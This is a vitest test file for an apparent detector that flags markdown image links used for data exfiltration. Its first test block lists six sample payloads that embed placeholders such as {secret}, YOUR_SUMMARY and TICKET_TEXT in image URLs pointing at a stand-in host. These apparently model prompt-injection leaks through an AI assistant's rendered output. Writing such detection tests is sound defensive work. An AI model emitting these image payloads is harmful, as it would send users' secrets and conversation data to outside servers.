import { describe, expect, it } from 'vitest';
import { findImages } from '../../../src/core/detect/inspect-field.ts';

describe('findImages', () => {
  it.each([
    '![a](https://x.example.org/p?d={secret})',
    '![](https://x.example.org/p.png?q=<summary>) end',
    '![a](https://x.example.org/?d=%7Bx%7D)',
    '![a](https://x.example.org/s.png?d=DATA)',
    '![a](https://x.example.org/s.png?a=1&d=YOUR_SUMMARY)',
    '![a](https://x.example.org/s.png?d=TICKET_TEXT)',
  ])('%s takes data along', (text) => {
    expect(findImages('a', text).map(({ rule, field }) => [rule, field])).toEqual([['exfiltration.image', 'a']]);
  });

  it.each([
    '![a](https://x.example.org/badge.svg?style=flat)',
    '![a](https://x.example.org/badge.svg?token=ABCDEF123)',
    '![a](./p.png)',
    '[a](https://x.example.org/p?d={x})',
    '!['.repeat(1000),
  ])('%s does not', (text) => {
    expect(findImages('a', text)).toEqual([]);
  });
});
